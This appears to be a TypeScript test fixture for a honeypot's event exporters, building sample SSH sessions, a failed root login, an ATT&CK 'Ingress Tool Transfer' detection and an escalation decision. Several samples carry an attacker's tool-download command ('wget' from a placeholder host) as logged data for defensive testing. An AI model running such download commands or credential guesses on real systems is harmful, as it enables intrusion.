import type { CerberusEvent, LoggedEvent } from '@cerberusmesh/contracts';
import type { ExporterDependencies } from './exporter.ts';
import { createOutboundGuard } from './outbound-guard.ts';

/** Events and surroundings for the tests of exporters. */

export const SAMPLE_NOW_MS = Date.parse('2026-05-01T10:00:05.000Z');
/** What a test server on this machine needs. */
export const LOOPBACK = ['127.0.0.0/8'];

type Content = CerberusEvent extends infer Event
  ? Event extends CerberusEvent
    ? Pick<Event, 'kind' | 'data'>
    : never
  : never;

export function sampleLogged(seq: number, content: Content): LoggedEvent {
  const event: CerberusEvent = {
    id: sampleEventId(seq),
    at: '2026-05-01T10:00:00.123456Z',
    sensorId: 'sensor-1',
    trap: 'ssh',
    sessionId: '01990000-0000-7000-8000-0000000000aa',
    source: { address: '198.51.100.7', port: 40_000 },
    destination: { address: '203.0.113.5', port: 22 },
    protocol: 'ssh',
    ...content,
  };
  return { seq, event };
}

export function sampleEventId(seq: number): string {
  return `01990000-0000-7000-8000-${String(seq).padStart(12, '0')}`;
}

export function sampleCommand(seq: number, input = 'wget http://192.0.2.1/x'): LoggedEvent {
  return sampleLogged(seq, { kind: 'command.entered', data: { input, channel: 'exec', exitCode: 0 } });
}

export function sampleLogin(seq: number, username = 'root'): LoggedEvent {
  const data = { method: 'password', username, secret: 'admin', accepted: false } as const;
  return sampleLogged(seq, { kind: 'credential.tried', data });
}

export function sampleDetection(seq: number): LoggedEvent {
  return sampleLogged(seq, {
    kind: 'detection.raised',
    data: {
      techniqueId: 'T1105',
      techniqueName: 'Ingress Tool Transfer',
      tactic: 'command-and-control',
      tactics: ['command-and-control'],
      confidence: 0.9,
      rule: 'download-tool',
      attackVersion: '18.1',
      stage: 'installation',
      statement: 'wget http://192.0.2.1/x',
      evidence: [sampleEventId(1)],
    },
  });
}

export function sampleDecision(
  seq: number,
  level = 5,
  text = 'ran <!channel> & *bold*\nhttp://192.0.2.1/x',
): LoggedEvent {
  return sampleLogged(seq, {
    kind: 'decision.made',
    data: {
      decisionId: `01990000-0000-7000-9000-${String(seq).padStart(12, '0')}`,
      kind: 'escalate',
      trigger: 'impact',
      state: 'proposed',
      confidence: 0.95,
      score: 0.97,
      level,
      stage: 'impact',
      reasons: [{ trigger: 'impact', text }],
      evidence: [sampleEventId(1)],
      alternatives: [],
      counterfactual: 'Without the payload it would be watched.',
      policy: { autoAction: false, threshold: 0.7, text: 'a person decides' },
      agentVersion: '1',
    },
  });
}

export function sampleDependencies(networks: readonly string[] = LOOPBACK): ExporterDependencies {
  return {
    guard: createOutboundGuard({ networks, resolve: async () => [], ownAddresses: () => [] }),
    now: () => SAMPLE_NOW_MS,
    uuid: () => '01990000-0000-4000-8000-000000000000',
    wait: async () => {},
  };
}
